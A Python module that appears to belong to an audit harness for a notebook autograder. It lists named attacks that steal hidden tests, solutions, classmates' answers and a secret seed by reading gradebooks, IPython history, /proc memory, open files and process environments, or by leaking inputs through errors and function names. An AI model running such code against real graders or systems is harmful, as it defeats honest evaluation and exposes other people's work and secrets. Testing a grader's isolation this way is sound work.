"""reading hidden tests and solutions"""

from ..attack import Attack

USE = """
def use(path):
    # print what is hidden, and take over the answers
    text = path.read_text(errors="replace")
    print("STOLEN", text)
    cells = json.loads(text)["cells"] if path.suffix == ".ipynb" else []
    for cell in cells:
        source = "".join(cell["source"])
        if cell["cell_type"] == "code" and "def " in source and "graded" not in source:
            with contextlib.suppress(Exception):
                exec(source, get_ipython().user_ns)
                answers.append(source)

answers = []
"""
LATER = ("judge", "vocabulary", "bag", "ngrams", "tf", "idf", "tfidf", "logistic", "naive-bayes", "curves", "bm25")
AGAIN = {  # the stubs of the later answer cells would put themselves over what was taken
    cell: "for source in answers:\n    exec(source, get_ipython().user_ns)" for cell in LATER
}
RECORD = """
seen = []

def names_medicine(text, medicines=None):
    seen.append((text, medicines))
    raise NotImplementedError

mostly_capitals = promises_money = names_medicine
"""
MEMORY = """
def search(pid, words=(b"BEGIN HIDDEN TESTS", b"check.hidden()"), most=600_000_000):
    # the readable and writable memory of a process, looked through for hidden text
    done = 0
    with open(f"/proc/{pid}/maps") as maps, open(f"/proc/{pid}/mem", "rb", 0) as memory:
        for line in maps:
            low, high = (int(x, 16) for x in line.split()[0].split("-"))
            if " rw" not in line or done > most or high - low > 300_000_000:
                continue
            done += high - low
            with contextlib.suppress(OSError, ValueError, OverflowError):
                memory.seek(low)
                block = memory.read(high - low)
                for word in words:
                    at = block.find(word)
                    while at >= 0:
                        yield block[at : at + 3000].decode("utf-8", "replace")
                        at = block.find(word, at + 3000)

"""

ATTACKS = [
    Attack(
        "source-notebook",
        "Opens the instructor's notebook in the course folder, prints it and runs its solutions.",
        USE
        + """
for path in [*COURSE.rglob("source/01_spam/*.ipynb"), *pathlib.Path().absolute().glob("../../../**/source/*/*.ipynb")]:
    use(path)""",
        cells=AGAIN,
    ),
    Attack(
        "text-source",
        "Looks for the solutions beside the installed helpers.",
        USE
        + """
import helpers
root = pathlib.Path(helpers.__file__).resolve().parent.parent
for path in [root / "solutions/01_spam/01_spam.py", root / "build/source/01_spam/01_spam.ipynb"]:
    with contextlib.suppress(OSError):
        use(path)""",
        cells=AGAIN,
    ),
    Attack(
        "classmates-answers",
        "Reads the submissions of others and runs their answers.",
        USE
        + """
for path in sorted(COURSE.rglob("*-honest/01_spam/01_spam.ipynb")):
    use(path)""",
        cells=AGAIN,
    ),
    Attack(
        "autograded-folder",
        "Prints autograded notebooks, which hold the hidden tests.",
        """
for path in [*COURSE.glob("autograded/*/*/*.ipynb"), *pathlib.Path().rglob("*.ipynb")]:
    print("STOLEN", path.read_text())""",
    ),
    Attack(
        "gradebook-read",
        "Reads the hidden tests out of the gradebook.",
        """
import sqlite3
with contextlib.closing(sqlite3.connect(f"file:{COURSE / 'gradebook.db'}?mode=ro", uri=True)) as db:
    for row in db.execute("select source from source_cell"):
        print("STOLEN", row[0])""",
    ),
    Attack(
        "input-history",
        "Keeps the text of the running check from IPython's list of inputs and prints it in a later cell.",
        """
kept = []

def names_medicine(text, medicines):
    kept.append(get_ipython().user_ns["In"][-1])

mostly_capitals = promises_money = lambda text: names_medicine(text, None)""",
        cells={"judge": "print('STOLEN', kept[0])"},
    ),
    Attack(
        "history-on-disk",
        "Reads IPython's history file, in which the checks of earlier kernels are kept.",
        """
import sqlite3
home = pathlib.Path(os.environ.get("IPYTHONDIR") or pathlib.Path.home() / ".ipython")
get_ipython().history_manager.writeout_cache() if get_ipython().history_manager else None
for path in home.rglob("history.sqlite"):
    with contextlib.closing(sqlite3.connect(path)) as db:
        for row in db.execute("select source_raw from history"):
            print("STOLEN", row[0])""",
        cell="bm25",
    ),
    Attack(
        "callers-source",
        "Reads the source of the check that calls it, with inspect, and prints it in a later cell.",
        """
import inspect, linecache
kept = []

def names_medicine(text, medicines):
    frame = sys._getframe(1)
    while frame is not None:
        lines = linecache.getlines(frame.f_code.co_filename)
        kept.append("".join(lines)) if any("graded" in line for line in lines) else None
        kept.append(repr(frame.f_code.co_consts)) if frame.f_code.co_name == "score" else None
        frame = frame.f_back

mostly_capitals = promises_money = lambda text: names_medicine(text, None)""",
        cells={"judge": "print('STOLEN', *dict.fromkeys(kept), sep='\\n')"},
    ),
    Attack(
        "collector",
        "Asks the garbage collector for every object that holds hidden text.",
        """
for found in gc.get_objects():
    values = found.values() if type(found) is dict else found if type(found) in (list, tuple) else ()
    with contextlib.suppress(Exception):
        for text in list(values):
            if type(text) is str and len(text) > 200 and ("check.hidden" in text or "HIDDEN TESTS" in text):
                print("STOLEN", text)""",
        cell="bm25",
    ),
    Attack(
        "own-memory",
        "Searches the memory of its own process for hidden text left there before the fork.",
        MEMORY + "for text in list(search(os.getpid()))[:20]:\n    print('STOLEN', text)",
        cell="bm25",
    ),
    Attack(
        "open-files",
        "Reads every file that is open in its process.",
        """
for fd in range(3, 256):
    with contextlib.suppress(OSError):
        path = os.readlink(f"/proc/self/fd/{fd}")
        if path.startswith("/") and not path.startswith(("/dev", "/proc")):
            print("STOLEN", path, os.pread(fd, 10_000_000, 0).decode("utf-8", "replace"))""",
    ),
    Attack(
        "environment",
        "Prints the environment of all processes that it can see: the course's secret seed may be there.",
        """
for path in [pathlib.Path("/proc/self/environ"), *pathlib.Path("/proc").glob("[0-9]*/environ")]:
    with contextlib.suppress(OSError):
        print(*re.findall(r"BOW2LORA_SECRET=[^\\0]*", path.read_text()))
print(os.environ.get("BOW2LORA_SECRET"))""",
        shows="the secret in an output",
    ),
    Attack(
        "inputs-in-a-later-cell",
        "Keeps the hidden inputs that its functions are called with and prints them in a later cell.",
        RECORD,
        cells={"judge": "for one in seen:\n    print('STOLEN', one)"},
        shows="a hidden input in an output",
    ),
    Attack(
        "inputs-in-a-later-error",
        "Keeps the hidden inputs and raises them as the message of an error in the next check.",
        RECORD,
        cells={
            "judge": """
def precision_recall_f1(labels, predictions):
    raise ValueError("STOLEN " + repr(seen[-1]))"""
        },
        shows="a hidden input in a report",
    ),
    Attack(
        "inputs-by-value",
        "Keeps the hidden inputs and returns them from the next exercise, whose report shows what came.",
        RECORD,
        cells={"judge": "precision_recall_f1 = lambda labels, predictions: 'STOLEN ' + repr(seen[-1])"},
        shows="a hidden input in a report",
    ),
    Attack(
        "inputs-by-argument",
        "Keeps the hidden inputs and takes one as the name of an argument that it changes, which a line names.",
        RECORD,
        cells={
            "judge": """
word = "STOLEN" + "_".join(w for text, _ in seen for w in re.findall("[A-Za-z]+", text))[-50:]
exec(f"def precision_recall_f1(labels, {word}):\\n    {word}[0] = 7\\n    return 0, 0, 0")"""
        },
        shows="a hidden input in a report",
    ),
    Attack(
        "inputs-by-name",
        "Keeps the hidden inputs and takes one as the name of its next function, which a report shows.",
        RECORD,
        cells={
            "judge": """
def precision_recall_f1(labels, predictions):
    pass

precision_recall_f1.__name__ = "STOLEN " + repr(seen[-1])"""
        },
        shows="a hidden input in a report",
    ),
    Attack(
        "whole-disk",
        "Looks through every readable file for hidden tests and solutions, the answers of the audit among them.",
        """
import helpers
signs, until = ("BEGIN HIDDEN TESTS", "check.hidden()", "### BEGIN SOLUTION", '# %% right='), time.time() + 6
roots = [pathlib.Path(helpers.__file__).resolve().parent.parent, COURSE.parent, pathlib.Path.home(), *COURSE.parents]
for root in roots:
    for folder, inner, names in os.walk(root):
        inner[:] = [name for name in inner if name not in ("site-packages", "proc", "sys", ".git", "attacks")]
        for name in names:
            if time.time() < until and name.endswith((".py", ".ipynb", ".db", ".json", ".html", ".pyc")):
                with contextlib.suppress(OSError):
                    text = pathlib.Path(folder, name).read_text(errors="replace")
                    print("STOLEN", text[:100_000]) if any(sign in text for sign in signs) else None""",
    ),
]
